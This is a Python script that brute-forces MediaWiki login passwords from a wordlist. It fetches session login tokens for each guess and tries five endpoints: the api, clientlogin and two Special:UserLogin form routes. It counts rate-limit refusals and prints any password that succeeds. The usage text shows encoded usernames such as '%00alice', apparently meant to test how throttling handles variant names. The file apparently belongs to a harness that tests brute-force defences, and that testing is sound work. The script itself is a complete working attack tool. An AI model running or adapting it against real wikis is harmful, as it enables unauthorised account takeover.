#!/usr/bin/python3
"""attack.py - guesses a MediaWiki password, as a scripted attacker does.

MediaWiki wants a login token (tied to a session cookie) with every
login, which hydra cannot fetch, so this fetches it for each guess and
sends the guess through one of MediaWiki's ways in:

  api        POST api.php action=login (lgname, lgpassword, lgtoken)
  api-query  the same with lgname in the query string
  client     POST api.php action=clientlogin (username, password)
  form       POST index.php?title=Special:UserLogin (wpName, wpPassword)
  form-path  the same form posted to index.php/Special:UserLogin

usage: attack.py BASE WAY USER PASSWORDS
  USER is urlencoded as it is sent ("%00alice").
With JAR=file in the environment, the guesses are a browser's that keeps
its device cookie in file (one guess a run).
Prints "login: USER password: GUESS" for a guess that logged in and
"denied N" for the guesses answered 429; exits 0.
"""
import json
import os
import re
import sys
import urllib.error
import urllib.parse
import urllib.request

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)),
                                ".."))
from browser_jar import browser_jar  # noqa: E402


class NoRedirect(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *args, **kwargs):
        return None


def fetch(opener, url, body=None):
    req = urllib.request.Request(
        url, data=body.encode("latin-1") if body is not None else None,
        headers={"Content-Type": "application/x-www-form-urlencoded"})
    try:
        resp = opener.open(req, timeout=30)
        return resp.status, dict(resp.headers), resp.read().decode(
            "utf-8", "replace")
    except urllib.error.HTTPError as e:
        return e.code, dict(e.headers), e.read().decode("utf-8", "replace")


def guess(base, way, user, password):
    """True when the guess logged in, None when it was answered 429."""
    jar = browser_jar()
    opener = urllib.request.build_opener(
        urllib.request.HTTPCookieProcessor(jar), NoRedirect)
    q = urllib.parse.quote
    if way.startswith("form"):
        _, _, page = fetch(opener, base + "/index.php?title=Special:UserLogin")
        m = re.search(r'name="wpLoginToken" type="hidden" value="([^"]*)"',
                      page) or re.search(
                          r'value="([^"]*)" name="wpLoginToken"', page)
        token = m.group(1) if m else ""
        url = base + ("/index.php/Special:UserLogin" if way == "form-path"
                      else "/index.php?title=Special:UserLogin")
        body = ("wpName=" + user + "&wpPassword=" + q(password, safe="") +
                "&wpLoginToken=" + q(token, safe="") +
                "&authAction=login&title=Special:UserLogin&wpLoginAttempt=1")
        status, headers, _ = fetch(opener, url, body)
        if status == 429:
            return None
        return status == 302 and any(
            c.name.endswith("UserName") for c in jar)
    _, _, text = fetch(opener, base + "/api.php?action=query&meta=tokens"
                       "&type=login&format=json")
    token = json.loads(text)["query"]["tokens"]["logintoken"]
    url = base + "/api.php"
    if way == "client":
        body = ("action=clientlogin&format=json&username=" + user +
                "&password=" + q(password, safe="") + "&logintoken=" +
                q(token, safe="") + "&loginreturnurl=" + q(base + "/"))
    elif way == "api-query":
        url += "?lgname=" + user
        body = ("action=login&format=json&lgpassword=" +
                q(password, safe="") + "&lgtoken=" + q(token, safe=""))
    else:
        body = ("action=login&format=json&lgname=" + user + "&lgpassword=" +
                q(password, safe="") + "&lgtoken=" + q(token, safe=""))
    status, _, text = fetch(opener, url, body)
    if status == 429:
        return None
    return '"Success"' in text or '"PASS"' in text


def main():
    base, way, user, pwfile = sys.argv[1:5]
    denied = 0
    for password in open(pwfile, encoding="utf-8").read().split("\n"):
        if not password:
            continue
        ok = guess(base, way, user, password)
        if ok is None:
            denied += 1
        elif ok:
            print("login: %s password: %s" % (user, password))
            break
    print("denied %d" % denied)


if __name__ == "__main__":
    main()
